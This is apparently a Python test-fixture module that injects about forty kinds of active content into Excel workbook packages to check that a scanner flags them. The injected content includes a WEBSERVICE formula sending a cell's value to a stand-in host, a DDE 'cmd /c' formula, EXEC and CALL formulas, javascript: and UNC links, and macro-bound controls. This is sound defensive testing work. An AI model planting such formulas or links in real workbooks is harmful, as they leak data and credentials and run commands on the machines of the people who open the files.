"""What acts in a workbook when it is opened or clicked, put into its package at one place after another."""

# ruff: noqa: E501
from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

from helpers import books

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
BOOK, BOOK_RELS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
SHEET, SHEET_RELS = "xl/worksheets/sheet4.xml", "xl/worksheets/_rels/sheet4.xml.rels"
"""Of indicator 6, in the workbook of area 2."""
SECRET = "192.0.2.1"
"""Stands in every address and path, to be looked for in copies."""
Parts = dict[str, bytes]
Change = Callable[[Parts], Any]


def relate(parts: Parts, rels: str, kind: str, target: str, outside: bool = False) -> str:
    """A relation more; its id."""
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    identity = f"rIdX{parts.get(rels, b'').count(b'<Relationship ')}"
    kind = kind if kind.startswith("http") else f"{R}/{kind}"
    mode = ' TargetMode="External"' if outside else ""
    line = f'<Relationship Id="{identity}" Type="{kind}" Target="{target}"{mode}/>'
    parts[rels] = parts.get(rels, empty).replace(b"</Relationships>", line.encode() + b"</Relationships>")
    return identity


def declare(parts: Parts, part: str, content_type: str) -> None:
    line = f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", line.encode())


def insert(parts: Parts, xml: str, before: str, part: str = SHEET) -> None:
    """XML before the first of these elements (a regular expression of names) that is there."""
    parts[part], n = re.subn(rb"(?=</?(?:%s)[\s/>])" % before.encode(), xml.encode(), parts[part], count=1)
    assert n, before


def cell(formula: str, more: str = "<v>7</v>", kind: str = "") -> Change:
    """A formula in a row of its own below the form."""
    row = f'<row r="900"><c r="B900"{kind}><f>{formula}</f>{more}</c></row>'
    return lambda parts: _below(parts, row)


def _below(parts: Parts, row: str) -> None:
    parts[SHEET] = parts[SHEET].replace(b"</sheetData>", row.encode() + b"</sheetData>")


def shared(parts: Parts) -> None:
    cells = f'<c r="B900"><f t="shared" ref="B900:C900" si="9">WEBSERVICE("http://{SECRET}")</f><v>1</v></c>'
    _below(parts, f'<row r="900">{cells}<c r="C900"><f t="shared" si="9"/><v>2</v></c></row>')


def name(attributes: str, formula: str) -> Change:
    def change(parts: Parts) -> None:
        xml = f'<definedName name="zz"{attributes}>{formula}</definedName>'
        parts[BOOK] = parts[BOOK].replace(b"<definedNames>", b"<definedNames>" + xml.encode())

    return change


def rule(parts: Parts) -> None:
    xml = f'<conditionalFormatting sqref="E9"><cfRule type="expression" priority="99"><formula>WEBSERVICE("http://{SECRET}")=1</formula></cfRule></conditionalFormatting>'
    insert(parts, xml, "conditionalFormatting|dataValidations|pageMargins")


def validation(parts: Parts) -> None:
    xml = f'<dataValidation type="custom" sqref="E9"><formula1>WEBSERVICE("http://{SECRET}")=1</formula1></dataValidation>'
    parts[SHEET] = parts[SHEET].replace(b"</dataValidations>", xml.encode() + b"</dataValidations>")
    assert SECRET.encode() in parts[SHEET]


def hyperlink(target: str) -> Change:
    def change(parts: Parts) -> None:
        identity = relate(parts, SHEET_RELS, "hyperlink", target, outside=True)
        xml = f'<hyperlinks><hyperlink xmlns:r="{R}" ref="E9" r:id="{identity}"/></hyperlinks>'
        insert(parts, xml, "printOptions|pageMargins|pageSetup")

    return change


def package_part(part: str, kind: str, xml: str, rels: str = BOOK_RELS, target: str = "") -> Change:
    def change(parts: Parts) -> None:
        parts[part] = xml.encode()
        relate(parts, rels, kind, target or f"/{part}")
        declare(parts, part, "application/xml")

    return change


def drawing(shape: str, extra: Change = lambda _: None) -> Change:
    names = f'xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{R}"'
    at = "<xdr:from><xdr:col>5</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>7</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>7</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>"

    def change(parts: Parts) -> None:
        extra(parts)
        part = "xl/drawings/drawing9.xml"
        parts[part] = (
            f"<xdr:wsDr {names}><xdr:twoCellAnchor>{at}{shape}<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>".encode()
        )
        declare(parts, part, "application/vnd.openxmlformats-officedocument.drawing+xml")
        identity = relate(parts, SHEET_RELS, "drawing", "../drawings/drawing9.xml")
        insert(parts, f'<drawing xmlns:r="{R}" r:id="{identity}"/>', "legacyDrawing|tableParts|extLst|/worksheet")

    return change


def box(text: str = "x", macro: str = "", click: str = "") -> str:
    return (
        f'<xdr:sp macro="{macro}" textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="box">{click}</xdr:cNvPr><xdr:cNvSpPr txBox="1"/></xdr:nvSpPr>'
        '<xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="300000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr>'
        f"<xdr:txBody><a:bodyPr/><a:p><a:r><a:t>{text}</a:t></a:r></a:p></xdr:txBody></xdr:sp>"
    )


def clicked(parts: Parts) -> None:
    relate(parts, "xl/drawings/_rels/drawing9.xml.rels", "hyperlink", f"file://///{SECRET}/x.exe", outside=True)


def ole(parts: Parts) -> None:
    parts["xl/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + SECRET.encode()
    identity = relate(parts, SHEET_RELS, "oleObject", "../embeddings/oleObject1.bin")
    one = f'<oleObject xmlns:r="{R}" progId="Package" shapeId="1025" r:id="{identity}"/>'
    xml = f'<oleObjects><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x14">{one}</mc:Choice><mc:Fallback>{one}</mc:Fallback></mc:AlternateContent></oleObjects>'
    insert(parts, xml, "tableParts|extLst|/worksheet")


def control(parts: Parts) -> None:
    parts["xl/ctrlProps/ctrlProp1.xml"] = (
        b'<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" fmlaMacro="[0]!x192.0.2.1"/>'
    )
    identity = relate(parts, SHEET_RELS, "ctrlProp", "../ctrlProps/ctrlProp1.xml")
    declare(parts, "xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml")
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    one = f'<control xmlns:r="{R}" shapeId="1026" r:id="{identity}" name="b"><controlPr macro="[0]!x"/></control>'
    xml = f'<mc:AlternateContent xmlns:mc="{mc}"><mc:Choice Requires="x14"><controls>{one}</controls></mc:Choice></mc:AlternateContent>'
    insert(parts, xml, "tableParts|extLst|/worksheet")


def activex(parts: Parts) -> None:
    parts["xl/activeX/activeX1.xml"] = (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{0}"/>'
    )
    parts["xl/activeX/activeX1.bin"] = SECRET.encode()
    declare(parts, "xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    relate(
        parts,
        "xl/activeX/_rels/activeX1.xml.rels",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        "activeX1.bin",
    )
    identity = relate(parts, SHEET_RELS, "control", "../activeX/activeX1.xml")
    xml = f'<controls><control xmlns:r="{R}" shapeId="1027" r:id="{identity}" name="c"/></controls>'
    insert(parts, xml, "tableParts|extLst|/worksheet")


def vml(parts: Parts) -> None:
    xml = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        f'<v:shape id="_x0000_s1026" type="#_x0000_t201" href="file:////{SECRET}/x"><x:ClientData ObjectType="Button"><x:Anchor>5, 0, 7, 0, 7, 0, 9, 0</x:Anchor><x:FmlaMacro>[0]!x{SECRET}</x:FmlaMacro></x:ClientData></v:shape></xml>'
    )
    parts["xl/drawings/vmlDrawing9.vml"] = xml.encode()
    types = parts["[Content_Types].xml"]
    head, tag, rest = types.partition(b"<Default")
    parts["[Content_Types].xml"] = (
        head
        + b'<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>'
        + tag
        + rest
    )
    identity = relate(parts, SHEET_RELS, "vmlDrawing", "../drawings/vmlDrawing9.vml")
    insert(parts, f'<legacyDrawing xmlns:r="{R}" r:id="{identity}"/>', "tableParts|extLst|/worksheet")


def external(parts: Parts) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{R}"><externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'.encode()
    )
    declare(
        parts,
        "xl/externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    )
    rels = "xl/externalLinks/_rels/externalLink1.xml.rels"
    relate(parts, rels, "externalLinkPath", f"file:///\\\\{SECRET}\\s\\b.xlsx", outside=True)
    parts[rels] = parts[rels].replace(b"rIdX0", b"rId1")
    identity = relate(parts, BOOK_RELS, "externalLink", "externalLinks/externalLink1.xml")
    insert(
        parts,
        f'<externalReferences><externalReference xmlns:r="{R}" r:id="{identity}"/></externalReferences>',
        "definedNames",
        BOOK,
    )
    _below(parts, '<row r="900"><c r="B900"><f>[1]S!A1*2</f><v>7</v></c></row>')


def query(parts: Parts) -> None:
    """A table that a connection fills, with the query behind it."""
    parts["xl/connections.xml"] = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="q" type="5" refreshedVersion="6"><dbPr connection="Provider=x;Data Source={SECRET}"/></connection></connections>'.encode()
    )
    declare(parts, "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    relate(parts, BOOK_RELS, "connections", "connections.xml")
    parts["xl/queryTables/queryTable1.xml"] = f'<queryTable xmlns="{MAIN}" name="{SECRET}" connectionId="1"/>'.encode()
    declare(
        parts,
        "xl/queryTables/queryTable1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml",
    )
    parts["xl/tables/table9.xml"] = (
        f'<table xmlns="{MAIN}" id="9" name="T9" displayName="T9" ref="B900:B901" tableType="queryTable" totalsRowShown="0">'
        '<autoFilter ref="B900:B901"/><tableColumns count="1"><tableColumn id="1" name="a" queryTableFieldId="1"/></tableColumns></table>'
    ).encode()
    declare(parts, "xl/tables/table9.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml")
    relate(parts, "xl/tables/_rels/table9.xml.rels", "queryTable", "../queryTables/queryTable1.xml")
    identity = relate(parts, SHEET_RELS, "table", "../tables/table9.xml")
    insert(
        parts, f'<tableParts count="1"><tablePart xmlns:r="{R}" r:id="{identity}"/></tableParts>', "extLst|/worksheet"
    )
    _below(
        parts,
        '<row r="900"><c r="B900" t="inlineStr"><is><t>a</t></is></c></row><row r="901"><c r="B901"><v>1</v></c></row>',
    )
    parts["customXml/item1.xml"] = (
        f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{SECRET}</DataMashup>'.encode()
    )
    relate(parts, BOOK_RELS, "customXml", "../customXml/item1.xml")
    parts["customXml/itemProps1.xml"] = (
        b'<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" ds:itemID="{0}"/>'
    )
    declare(parts, "customXml/itemProps1.xml", "application/vnd.openxmlformats-officedocument.customXmlProperties+xml")
    relate(parts, "customXml/_rels/item1.xml.rels", "customXmlProps", "itemProps1.xml")


def picture_outside(parts: Parts) -> None:
    pic = f'<xdr:pic macro="[0]!x{SECRET}"><xdr:nvPicPr><xdr:cNvPr id="3" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rIdX0"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>'
    drawing(
        pic, lambda p: relate(p, "xl/drawings/_rels/drawing9.xml.rels", "image", f"http://{SECRET}/x.png", outside=True)
    )(parts)


def image(parts: Parts) -> None:
    """A picture that a formula fetches, as Excel keeps it."""
    _below(
        parts,
        f'<row r="900"><c r="B900" t="e" vm="1" cm="1"><f>_xlfn.IMAGE("http://{SECRET}/x")</f><v>#VALUE!</v></c></row>',
    )
    part = "xl/richData/rdRichValueWebImage.xml"
    parts[part] = (
        f'<webImagesSrd xmlns="x" xmlns:r="{R}"><webImageSrd><address r:id="rIdX0"/></webImageSrd></webImagesSrd>'.encode()
    )
    relate(parts, "xl/richData/_rels/rdRichValueWebImage.xml.rels", "hyperlink", f"http://{SECRET}/x", outside=True)
    kind = "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage"
    relate(parts, BOOK_RELS, kind, "richData/rdRichValueWebImage.xml")
    parts["xl/metadata.xml"] = f'<metadata xmlns="{MAIN}"/>'.encode()
    relate(parts, BOOK_RELS, "sheetMetadata", "metadata.xml")


def newer_rules(parts: Parts) -> None:
    """A conditional format and a validation as Excel has kept them since 2010."""
    excel = "http://schemas.microsoft.com/office"
    names = f'xmlns:x14="{excel}/spreadsheetml/2009/9/main" xmlns:xm="{excel}/excel/2006/main"'
    rule = (
        f'<x14:cfRule type="expression" priority="9" id="{{1}}"><xm:f>WEBSERVICE("http://{SECRET}")</xm:f></x14:cfRule>'
    )
    validation = f'<x14:dataValidation type="list"><x14:formula1><xm:f>RTD("{SECRET}")</xm:f></x14:formula1><xm:sqref>E9</xm:sqref></x14:dataValidation>'
    xml = (
        f'<extLst><ext {names} uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}"><x14:conditionalFormattings><x14:conditionalFormatting>{rule}<xm:sqref>E9</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext>'
        f'<ext {names} uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}"><x14:dataValidations count="1">{validation}</x14:dataValidations></ext></extLst>'
    )
    insert(parts, xml, "/worksheet")


def pivot(parts: Parts) -> None:
    """A pivot table over data outside."""
    query(parts)
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    cache, table = "xl/pivotCache/pivotCacheDefinition1.xml", "xl/pivotTables/pivotTable1.xml"
    parts[cache] = (
        f'<pivotCacheDefinition xmlns="{MAIN}"><cacheSource type="external" connectionId="1"/><cacheFields count="1"><cacheField name="{SECRET}"/></cacheFields></pivotCacheDefinition>'.encode()
    )
    declare(parts, cache, f"{kind}.pivotCacheDefinition+xml")
    identity = relate(parts, BOOK_RELS, "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
    caches = f'<pivotCaches><pivotCache xmlns:r="{R}" cacheId="1" r:id="{identity}"/></pivotCaches></workbook>'
    parts[BOOK] = parts[BOOK].replace(b"</workbook>", caches.encode())
    parts[table] = f'<pivotTableDefinition xmlns="{MAIN}" name="p{SECRET}" cacheId="1"/>'.encode()
    declare(parts, table, f"{kind}.pivotTable+xml")
    relate(
        parts,
        "xl/pivotTables/_rels/pivotTable1.xml.rels",
        "pivotCacheDefinition",
        "../pivotCache/pivotCacheDefinition1.xml",
    )
    relate(parts, SHEET_RELS, "pivotTable", "../pivotTables/pivotTable1.xml")


def hyperlink_base(parts: Parts) -> None:
    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
        b"</Properties>", f"<HyperlinkBase>\\\\{SECRET}\\s</HyperlinkBase></Properties>".encode()
    )


_MS = "http://schemas.microsoft.com/office"
ACTING: dict[str, tuple[Change, str, tuple[str, str]]] = {
    # what → (the change, the code of its finding, the (sheet, cell) where it is found)
    "WEBSERVICE": (cell(f'WEBSERVICE("http://{SECRET}/?"&amp;E10)'), "file.active_formula", ("ตบช.6", "B900")),
    "shared WEBSERVICE": (shared, "file.active_formula", ("ตบช.6", "B900")),
    **{
        function: (cell(f'{function}("{SECRET}")', kind=' t="str"'), "file.active_formula", ("ตบช.6", "B900"))
        for function in ("_xlfn.FILTERXML", "_xlfn.IMAGE", "RTD", "CALL", "EXEC", "REGISTER.ID", "HYPERLINK", "_xlfn._xlws.PY", "_xldudf_X_Y")
    },
    "never calculated": (cell(f'WEBSERVICE("http://{SECRET}")', more=""), "file.active_formula", ("ตบช.6", "B900")),
    "a kept function": (
        cell(f'IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(""http://{SECRET}"")"),1)'), "file.active_formula", ("ตบช.6", "B900"),
    ),
    "another computer": (cell(f"'\\\\{SECRET}\\s\\[b.xlsx]S'!A1"), "file.active_formula", ("ตบช.6", "B900")),
    "in other signs": (
        cell(f'W&#69;B<!-- x -->SERVICE(<![CDATA["{SECRET}"]]>)'), "file.active_formula", ("ตบช.6", "B900"),
    ),
    "IMAGE with its picture": (image, "file.active_formula", ("ตบช.6", "B900")),
    "rules of newer kinds": (newer_rules, "file.active_formula", ("ตบช.6", "E9")),
    "a pivot table": (pivot, "file.active_part", ("", "")),
    "DDE": (cell(f"cmd|'/c {SECRET}'!A0"), "file.dde", ("ตบช.6", "B900")),
    "a name": (name("", f'EXEC("{SECRET}")'), "file.active_formula", ("", "")),
    "a hidden name": (name(' hidden="1"', f'REGISTER("{SECRET}")'), "file.active_formula", ("", "")),
    "a macro's name": (name(' function="1" vbProcedure="1"', f'"{SECRET}"'), "file.active_formula", ("", "")),
    "a conditional format": (rule, "file.active_formula", ("ตบช.6", "E9")),
    "a validation": (validation, "file.active_formula", ("ตบช.6", "E9")),
    **{
        target: (hyperlink(target), "file.unsafe_link", ("ตบช.6", "E9"))
        for target in (f"javascript:alert('{SECRET}')", f"file:///\\\\{SECRET}\\x", f"\\\\{SECRET}\\x", f"//{SECRET}/x", f"search-ms:query={SECRET}", f"{SECRET}.exe")
    },
    "the base of links": (hyperlink_base, "file.unsafe_link", ("", "")),
    "a shape's macro": (drawing(box(macro=f"[0]!x{SECRET}")), "file.macro_control", ("ตบช.6", "F8")),
    "a shape's link": (
        drawing(box(click='<a:hlinkClick r:id="rIdX0"/>'), clicked), "file.unsafe_link", ("ตบช.6", "F8"),
    ),
    "a picture from outside": (picture_outside, "file.external_links", ("", "")),
    "a control's macro": (control, "file.macro_control", ("ตบช.6", "")),
    "an old button": (vml, "file.macro_control", ("ตบช.6", "F8")),
    "ActiveX": (activex, "file.embedded", ("ตบช.6", "")),
    "OLE": (ole, "file.embedded", ("ตบช.6", "")),
    "another workbook": (external, "file.external_links", ("", "")),
    "a query": (query, "file.active_part", ("", "")),
    "customUI": (
        package_part("customUI/customUI14.xml", f"{_MS}/2007/relationships/ui/extensibility", f'<customUI xmlns="{_MS}/2009/07/customui" onLoad="x{SECRET}"/>', "_rels/.rels"),
        "file.active_part", ("", ""),
    ),
    "a web extension": (
        package_part("xl/webextensions/taskpanes.xml", f"{_MS}/2011/relationships/webextensiontaskpanes", f'<t xmlns="{_MS}/webextensions/taskpanes/2010/11" s="{SECRET}"/>', "_rels/.rels"),
        "file.active_part", ("", ""),
    ),
    "RTD's topics": (
        package_part("xl/volatileDependencies.xml", "volatileDependencies", f'<volTypes xmlns="{MAIN}"><volType type="realTimeData"><main first="{SECRET}"/></volType></volTypes>'),
        "file.active_part", ("", ""),
    ),
}  # fmt: skip
"""Each way in which a workbook acts."""


def acting(path: Path, what: str) -> Path:
    """A workbook of area 2 that acts in that way, and has a fault for which a copy goes back."""
    books.workbook(path, 2, {("IND6.1", "count"): 99, ("IND6.1", "total"): 11})
    return books.repack(path, ACTING[what][0])
